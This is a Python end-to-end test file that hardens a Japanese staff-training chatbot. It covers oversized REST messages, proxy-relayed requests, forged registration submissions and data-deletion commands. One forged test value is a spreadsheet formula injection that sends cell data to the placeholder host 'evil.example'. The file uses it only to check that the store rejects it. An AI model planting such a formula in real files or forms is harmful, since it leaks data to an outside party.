"""Issue 11, the attacks that need the local set-up (`make run`: credentials.local.yml with the REST
channel), against both real servers on 127.0.0.1: long and huge REST messages, a REST request
relayed by a proxy, forged registrations that reach the store, and the office's data deletion
(purge by age, delete-person, delete-cohort) while the servers run.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest

from bot.devtools.servers import ManabiServers
from bot.settings import PROJECT_ROOT
from tests.e2e.test_registration_e2e import FORM_STEPS

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def servers(tmp_path_factory) -> Iterator[ManabiServers]:
    with ManabiServers(tmp_path_factory.mktemp("hardening-local")) as running:
        yield running


def rest(servers: ManabiServers, sender: str, text: str, headers: dict[str, str] | None = None) -> tuple[int, Any]:
    body = json.dumps({"sender": sender, "message": text}, ensure_ascii=False).encode("utf-8")
    request = urllib.request.Request(
        servers.rest_url, data=body, headers={"Content-Type": "application/json", **(headers or {})}
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def timed_say(servers: ManabiServers, sender: str, text: str) -> tuple[str, float]:
    started = time.monotonic()
    reply = servers.say(sender, text)
    return reply, time.monotonic() - started


# --- the REST channel ---------------------------------------------------------------------------
def test_a_long_rest_message_is_answered_at_once_and_a_colleague_is_not_delayed(servers):
    question = "ITパスポートの補助はいくら？"
    usual = max(timed_say(servers, f"usual-{n}", question)[1] for n in range(3))
    results: dict[str, tuple[str, float]] = {}
    long_text = "RPA研修の日程と内容を詳しく教えてください。" * 400  # 9,200 characters, within Teams' limit

    def long_writer() -> None:
        results["long"] = timed_say(servers, "long-writer", long_text)

    writer = threading.Thread(target=long_writer)
    writer.start()
    time.sleep(0.02)  # the colleague asks just after
    results["colleague"] = timed_say(servers, "colleague", question)
    writer.join(30)
    (polite, long_seconds), (answer, colleague_seconds) = results["long"], results["colleague"]
    print(
        f"usual {usual:.2f}s, 9,000 characters answered in {long_seconds:.2f}s, colleague in {colleague_seconds:.2f}s"
    )
    assert "長すぎる" in polite and f"{len(long_text):,}文字" in polite and "分けて" in polite
    assert "3,750円" in answer
    assert long_seconds < 1.0
    assert colleague_seconds < max(3 * usual, usual + 1.5)


def test_a_huge_rest_message_gets_a_polite_answer_not_an_empty_one(servers):
    """A 100,000-character message got []."""
    status, messages = rest(servers, "huge-writer", "a" * 100_000)
    assert status == 200 and messages and "長すぎる" in messages[0]["text"]
    status, _ = rest(servers, "huge-writer", "あ" * 200_000)  # 600 KB of UTF-8: beyond the server's limit
    assert status == 413
    assert "まなびアシスタント" in servers.say("huge-writer", "こんにちは")  # and the person can go on


def test_the_rest_channel_refuses_requests_relayed_by_a_proxy(servers):
    """A proxy on this machine (nginx for Teams) must not make the local channel reachable from outside."""
    for header in ("X-Forwarded-For", "Forwarded", "X-Real-IP"):
        status, _ = rest(servers, "aad-victim", "申込状況を教えて", headers={header: "203.0.113.7"})
        assert status == 403, header


# --- forged registrations -----------------------------------------------------------------------
def forged_submit(sender: str, **answers: str) -> bytes:
    from tests.e2e.test_hardening_production_e2e import submit_call

    return submit_call(sender, **answers)


def post_action(servers: ManabiServers, body: bytes) -> dict[str, Any]:
    request = urllib.request.Request(
        servers.action_url, data=body, headers={"Content-Type": "application/json", **servers.action_headers}
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.loads(response.read())


@pytest.mark.parametrize(
    "answers, label",
    [
        ({"reg_name": '=HYPERLINK("http://evil.example/?"&A1,"詳細")'}, "お名前"),
        ({"reg_staff_number": "not-a-number"}, "職員番号"),
        ({"reg_motivation": "窓口改善" * 1250}, "志望動機"),
        ({"reg_cohort": "leader-99"}, "お問い合わせ"),
    ],
)
def test_a_forged_submit_that_reaches_the_action_server_stores_nothing(servers, answers, label):
    """Even with the secret (a compromised Rasa server), the store checks every field again."""
    result = post_action(servers, forged_submit("victim-aad", **answers))
    reply = "\n".join(r.get("text") or "" for r in result["responses"])
    assert label in reply and "受付済" not in reply and "Traceback" not in reply
    conn = sqlite3.connect(servers.settings.state_db)
    try:
        assert conn.execute("SELECT COUNT(*) FROM registrations WHERE person_id = 'victim-aad'").fetchone()[0] == 0
    finally:
        conn.close()


# --- retention and deletion ---------------------------------------------------------------------
def office(servers: ManabiServers, *args: str) -> subprocess.CompletedProcess:
    """``python -m bot …`` as the office runs it, on the servers' databases."""
    env = {
        **os.environ,
        "MANABI_STATE_DB": str(servers.settings.state_db),
        "MANABI_TRACKER_DB": servers.env["MANABI_TRACKER_DB"],
        "MANABI_CATALOGUE_DB": str(servers.settings.catalogue_db),
        "MANABI_TODAY": servers.settings.today or "",
    }
    return subprocess.run(
        [sys.executable, "-m", "bot", *args], cwd=PROJECT_ROOT, env=env, capture_output=True, text=True, timeout=60
    )


def tracker_rows(servers: ManabiServers, sender: str) -> int:
    conn = sqlite3.connect(servers.env["MANABI_TRACKER_DB"])
    try:
        return conn.execute("SELECT COUNT(*) FROM events WHERE sender_id = ?", (sender,)).fetchone()[0]
    finally:
        conn.close()


def age(servers: ManabiServers, sender: str, days: int) -> None:
    """Makes the sender's conversation and questions ``days`` older, as if they had talked back then."""
    conn = sqlite3.connect(servers.env["MANABI_TRACKER_DB"])
    conn.execute("UPDATE events SET timestamp = timestamp - ? WHERE sender_id = ?", (days * 86400, sender))
    conn.commit()
    conn.close()
    conn = sqlite3.connect(servers.settings.state_db)
    conn.execute(
        "UPDATE unanswered_questions SET asked_at = '2026-01-05T10:00:00+09:00' WHERE sender_id = ?", (sender,)
    )
    conn.commit()
    conn.close()


def unanswered(servers: ManabiServers, sender: str) -> int:
    conn = sqlite3.connect(servers.settings.state_db)
    try:
        return conn.execute("SELECT COUNT(*) FROM unanswered_questions WHERE sender_id = ?", (sender,)).fetchone()[0]
    finally:
        conn.close()


def test_purge_deletes_old_conversations_and_questions_after_a_dry_run(servers):
    servers.say("old-user", "今日の天気は？")  # a conversation and an unanswered question
    servers.say("recent-user", "今日の天気は？")
    servers.say("recent-user", "ITパスポートの補助はいくら？")
    age(servers, "old-user", 200)
    before = (tracker_rows(servers, "old-user"), tracker_rows(servers, "recent-user"))

    dry = office(servers, "privacy", "purge", "--older-than", "180d")
    assert (
        dry.returncode == 0
        and "削除対象" in dry.stdout
        and "会話 1件" in dry.stdout
        and "未回答の質問 1件" in dry.stdout
    )
    assert (tracker_rows(servers, "old-user"), tracker_rows(servers, "recent-user")) == before  # nothing deleted

    applied = office(servers, "privacy", "purge", "--older-than", "180d", "--apply")
    assert applied.returncode == 0 and "削除しました" in applied.stdout, applied.stderr
    assert tracker_rows(servers, "old-user") == 0 and unanswered(servers, "old-user") == 0
    assert tracker_rows(servers, "recent-user") == before[1] and unanswered(servers, "recent-user") == 1

    assert "まなびアシスタント" in servers.say("old-user", "こんにちは")  # starts afresh, no error
    assert "勉強法" in servers.say("recent-user", "それの勉強法は？")  # still remembers ITパスポート


def register_through_the_form(servers: ManabiServers, sender: str, staff_number: str) -> None:
    steps = [(text if expected != "推薦区分" else staff_number, expected) for text, expected in FORM_STEPS]
    for text, expected in steps:
        reply = servers.say(sender, text)
        assert expected in reply, f"{text!r} → {reply!r}"
    assert "受付済" in servers.say(sender, "はい")


def test_delete_person_removes_everything_about_them_and_reports_it(servers):
    register_through_the_form(servers, "leaving-person", "305001")
    servers.say("leaving-person", "今日の天気は？")
    assert tracker_rows(servers, "leaving-person") > 0

    dry = office(servers, "registrations", "delete-person", "--staff-number", "305001")
    assert dry.returncode == 1 and "登録 1件" in dry.stdout and "会話ログ 1件" in dry.stdout
    assert tracker_rows(servers, "leaving-person") > 0

    done = office(servers, "registrations", "delete-person", "--staff-number", "305001", "--yes")
    assert done.returncode == 0, done.stderr
    assert "登録 1件" in done.stdout and "未回答ログ 1件" in done.stdout and "会話ログ 1件" in done.stdout
    assert tracker_rows(servers, "leaving-person") == 0 and unanswered(servers, "leaving-person") == 0
    conn = sqlite3.connect(servers.settings.state_db)
    try:
        assert conn.execute("SELECT COUNT(*) FROM registrations WHERE staff_number = '305001'").fetchone()[0] == 0
        assert (
            conn.execute("SELECT COUNT(*) FROM registration_audit WHERE person_id = 'leaving-person'").fetchone()[0]
            == 0
        )
    finally:
        conn.close()
    assert "登録されている申込はありません" in servers.say("leaving-person", "申込状況を教えて")


def test_delete_cohort_removes_the_cohort_and_its_applicants_conversations(servers):
    register_through_the_form(servers, "applicant-1", "305101")
    register_through_the_form(servers, "applicant-2", "305102")
    servers.say("bystander", "こんにちは")
    refused = office(servers, "registrations", "delete-cohort", "leader-7", "--yes")
    assert refused.returncode == 1 and "受付中" in refused.stderr  # an open cohort is not deleted
    assert tracker_rows(servers, "applicant-1") > 0
    assert office(servers, "registrations", "close", "leader-7").returncode == 0
    try:
        done = office(servers, "registrations", "delete-cohort", "leader-7", "--yes")
        assert done.returncode == 0, done.stderr
        assert (
            "登録 2件" in done.stdout
            and "応募者の会話ログ 2件" in done.stdout
            and "受付停止・再開の設定" in done.stdout
        )
        assert tracker_rows(servers, "applicant-1") == tracker_rows(servers, "applicant-2") == 0
        assert tracker_rows(servers, "bystander") > 0
        conn = sqlite3.connect(servers.settings.state_db)
        try:
            events = [r[0] for r in conn.execute("SELECT event FROM registration_audit WHERE cohort_id = 'leader-7'")]
            assert events == ["cohort_deleted"]
        finally:
            conn.close()
    finally:
        office(servers, "registrations", "reopen", "leader-7")
